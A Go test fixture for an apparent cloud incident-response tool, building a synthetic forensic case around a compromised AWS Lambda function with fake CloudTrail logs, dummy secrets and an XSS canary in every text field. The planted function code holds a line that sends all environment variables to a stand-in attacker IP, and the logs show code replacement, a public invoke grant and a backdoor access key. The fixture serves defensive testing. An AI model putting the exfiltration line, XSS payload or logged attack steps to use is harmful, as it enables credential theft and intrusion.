// Package reportcase writes a case to make reports of: a function, its owner, somebody who
// replaces its code and uses its credentials elsewhere, as many calls as are wanted around
// that, and, in every place that others write, the texts of an attacker and secrets.
package reportcase

import (
	"archive/zip"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"slices"
	"time"

	"github.com/freezeframe-ir/freezeframe/internal/evidence"
	"github.com/freezeframe-ir/freezeframe/internal/inspect/hostile"
	"github.com/freezeframe-ir/freezeframe/internal/vault"
)

// What the case is about.
const (
	Account  = "123456789012"
	Function = "arn:aws:lambda:eu-west-1:" + Account + ":function:payments"
	Role     = "arn:aws:iam::" + Account + ":role/payments-role"
	Thief    = "203.0.113.66"
	Owner    = "198.51.100.20"
	Stolen   = "ASIASTOLENSTOLENSTOL"
	Canary   = `<img src="http://evil.example/x" onerror="alert('canary')"><script>alert("canary")</script>`
)

// Begun is the moment of the first call. All lies in the past, whenever a test runs.
var Begun = time.Date(2026, 1, 29, 8, 0, 0, 0, time.UTC)

// Secrets are those that the case holds in places where people leave them: in code, in messages.
// None of them opens anything.
func Secrets() []string {
	return []string{"wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE09", "correct-horse-battery", "ghp_" + "abcdefghijklmnopqrstuvwxyz0123456789", "hunter2hunter2"}
}

// Write makes the case in dir, with its keys in home, and that many calls.
func Write(ctx context.Context, dir, home string, calls int) (*evidence.Case, error) {
	v, err := vault.NewFolder(dir)
	if err != nil {
		return nil, err
	}
	now := Begun.Add(72 * time.Hour)
	c, err := evidence.CreateCase(ctx, v, evidence.CaseOptions{Title: "payments " + Canary, Authority: "ticket " + Canary, Operator: "Alice " + Canary, Home: home, Now: func() time.Time { return now }})
	if err != nil {
		return nil, err
	}
	w, err := c.Begin(ctx, evidence.Header{Kind: evidence.KindCollection, Targets: []string{Function}, Operator: "Alice " + Canary, Principal: "arn:aws:iam::" + Account + ":user/alice", Params: map[string]string{"since": "72h", "until": now.Format(time.RFC3339)}})
	if err != nil {
		return nil, err
	}
	put := func(m evidence.Meta, write func(io.Writer) error) {
		m.Name, m.Started, m.Ended = m.Artefact, now, now
		m.Params = map[string]string{"StartTime": Begun.Format(time.RFC3339), "EndTime": now.Format(time.RFC3339)}
		if _, perr := w.Put(ctx, m, write); err == nil {
			err = perr
		}
	}
	put(evidence.Meta{Artefact: "cloudtrail.lookup", Source: evidence.Source{ARN: Function, Qualifier: "ResourceName=payments", Region: "eu-west-1"}}, func(out io.Writer) error { return pages(out, calls) })
	for _, x := range []struct{ version, source string }{{"1", clean}, {"$LATEST", stolen}} {
		code := zipped(map[string]string{"index.py": x.source, Canary[:20] + ".txt": x.version + Canary})
		sum := sha256.Sum256(code)
		hash := base64.StdEncoding.EncodeToString(sum[:])
		at := evidence.Source{ARN: Function, Qualifier: x.version, Region: "eu-west-1"}
		put(evidence.Meta{Artefact: "lambda.configuration", Source: at}, text(fmt.Sprintf(`{"Configuration":{"FunctionArn":"%s:%s","FunctionName":"payments","Version":"%s","Role":"%s","Description":%s,"CodeSha256":"%s","LastModified":"2026-01-01T00:00:00.000+0000"}}`,
			Function, x.version, x.version, Role, quote(x.version+Canary), hash)))
		put(evidence.Meta{Artefact: "lambda.code", Source: at, Declared: &evidence.Declared{Algorithm: "sha256", Value: hash}}, func(out io.Writer) error { _, err := out.Write(code); return err })
	}
	put(evidence.Meta{Artefact: "lambda.policy", Source: evidence.Source{ARN: Function}}, text(`{"Policy":"{\"Version\":\"2012-10-17\",\"Statement\":[{\"Sid\":\"open\",\"Effect\":\"Allow\",\"Principal\":\"*\",\"Action\":\"lambda:InvokeFunction\",\"Resource\":\"*\"}]}"}`))
	if err != nil {
		return nil, err
	}
	for _, a := range []string{"logs.events", "lambda.layers"} {
		if err := w.Gap(evidence.Gap{Artefact: a, Source: evidence.Source{ARN: Function}, State: evidence.Denied, Call: "Lambda:Get", Error: "AccessDeniedException: " + Canary}); err != nil {
			return nil, err
		}
	}
	if _, err := w.Seal(ctx, evidence.StatusPartial); err != nil {
		return nil, err
	}
	now = now.Add(time.Hour)
	note := evidence.Event{Type: evidence.EventNote, Actor: "Bob " + Canary, Reason: "alert 4711 " + Canary, Data: map[string]string{"kind": "detect", "at": Begun.Add(50 * time.Hour).Format(time.RFC3339)}}
	return c, c.Record(ctx, note)
}

func text(s string) func(io.Writer) error {
	return func(w io.Writer) error { _, err := io.WriteString(w, s); return err }
}

const clean = "import os\n\ndef handler(event, context):\n    return pay(event)\n"

var stolen = "import os, urllib.request\n\npassword = \"correct-horse-battery\"\naws_secret_access_key = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE09'\n\ndef handler(event, context):\n\t# " + Canary +
	"\n    urllib.request.urlopen('http://user:hunter2hunter2@203.0.113.66/', data=str(dict(os.environ)).encode())\n    return pay(event)\n"

func zipped(files map[string]string) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range []string{"index.py", Canary[:20] + ".txt"} {
		f, err := z.Create(name)
		if err == nil {
			_, err = io.WriteString(f, files[name])
		}
		if err != nil {
			panic(err) // into memory
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	return b.Bytes()
}

func quote(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// pages writes looked-up events, fifty a page.
func pages(w io.Writer, calls int) error {
	var page []string
	flush := func() error {
		out := `{"Events":[`
		for i, r := range page {
			if i > 0 {
				out += ","
			}
			out += `{"CloudTrailEvent":` + quote(r) + `}`
		}
		page = page[:0]
		_, err := io.WriteString(w, out+"]}\n")
		return err
	}
	texts := slices.DeleteFunc(hostile.Texts(), func(t string) bool { return len(t) > 200 }) // what is long costs time, and is judged elsewhere
	for i := range calls {
		if page = append(page, call(i, calls, texts)); len(page) == 50 {
			if err := flush(); err != nil {
				return err
			}
		}
	}
	if page = append(page, attack()...); len(page) > 50 {
		rest := append([]string(nil), page[50:]...)
		page = page[:50]
		if err := flush(); err != nil {
			return err
		}
		page = rest
	}
	return flush()
}

// call is one of the usual calls: of the function from inside, of its owner, of scanners.
func call(i, of int, texts []string) string {
	at := Begun.Add(72 * time.Hour / time.Duration(of) * time.Duration(i))
	hostileText := texts[i%len(texts)] + Canary
	switch {
	case i%50 == 7:
		return record(fmt.Sprint("own-", i), at, "lambda", "GetFunction20150331v2", user("olivia", "AKIAOLIVIAOLIVIAOLIV"), Owner, "aws-cli/2 "+hostileText, `,"requestParameters":{"functionName":"payments"},"readOnly":true`)
	case i%50 == 8:
		return record(fmt.Sprint("no-", i), at, "lambda", "UpdateFunctionCode20150331v2", user("scanner"+hostileText, "AKIASCANNERSCANNERSC"), "198.51.100.99", hostileText,
			`,"errorCode":"AccessDenied","errorMessage":`+quote(hostileText+` token="ghp_abcdefghijklmnopqrstuvwxyz0123456789"`)+`,"requestParameters":{"functionName":"payments"}`)
	}
	return record(fmt.Sprint("in-", i), at, "s3", "GetObject", session("ASIAINSIDEINSIDEINSI"), "10.0.0.1", "Boto3/1.40 exec-env/AWS_Lambda_python3.13 "+texts[i%len(texts)], `,"readOnly":true`)
}

func attack() []string {
	t := func(minutes int) time.Time { return Begun.Add(48*time.Hour + time.Duration(minutes)*time.Minute) }
	mallory := user("mallory"+Canary, "AKIAMALLORYMALLORYMA")
	out := []string{
		record("a-code", t(0), "lambda", "UpdateFunctionCode20150331v2", mallory, Thief, "curl "+Canary, `,"requestParameters":{"functionName":"payments"},"responseElements":{"functionArn":"`+Function+`","codeSha256":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA="}`),
		record("a-grant", t(1), "lambda", "AddPermission20150331v2", mallory, Thief, "curl", `,"requestParameters":{"functionName":"payments","statementId":`+quote("open"+Canary)+`,"action":"lambda:InvokeFunction","principal":"*"},"responseElements":{}`),
		record("a-key", t(2), "iam", "CreateAccessKey", mallory, Thief, "curl", `,"requestParameters":{"userName":"backdoor"},"responseElements":{"accessKey":{"accessKeyId":"AKIABACKDOORBACKDOOR","userName":"backdoor","status":"Active"}}`),
	}
	for i := range 12 {
		more := ""
		if i%3 == 2 {
			more = `,"errorCode":"AccessDenied","errorMessage":` + quote(Canary)
		}
		out = append(out, record(fmt.Sprint("a-use-", i), t(5+i), []string{"s3", "iam", "sts"}[i%3], []string{"ListBuckets", "ListUsers", "GetCallerIdentity"}[i%3], session(Stolen), Thief, "curl "+Canary, more))
	}
	return out
}

func user(name, key string) string {
	return `{"type":"IAMUser","arn":` + quote("arn:aws:iam::"+Account+":user/"+name) + `,"accountId":"` + Account + `","accessKeyId":"` + key + `","userName":` + quote(name) + `}`
}

func session(key string) string {
	return `{"type":"AssumedRole","arn":"arn:aws:sts::` + Account + `:assumed-role/payments-role/payments","accountId":"` + Account + `","accessKeyId":"` + key + `","inScopeOf":{"issuerType":"AWS::Lambda::Function","credentialsIssuedTo":"` + Function + `"},"sessionContext":{"sessionIssuer":{"type":"Role","arn":"` + Role + `","userName":"payments-role"},"attributes":{"creationDate":"2026-01-29T07:00:00Z"}}}`
}

func record(id string, at time.Time, service, name, identity, address, agent, more string) string {
	return fmt.Sprintf(`{"eventVersion":"1.11","eventID":%s,"eventTime":%q,"eventSource":"%s.amazonaws.com","eventName":%q,"awsRegion":"eu-west-1","sourceIPAddress":%q,"userAgent":%s,"recipientAccountId":"`+Account+`","eventCategory":"Management","managementEvent":true,"userIdentity":%s%s}`,
		quote(id), at.Format(time.RFC3339), service, name, address, quote(agent), identity, more)
}
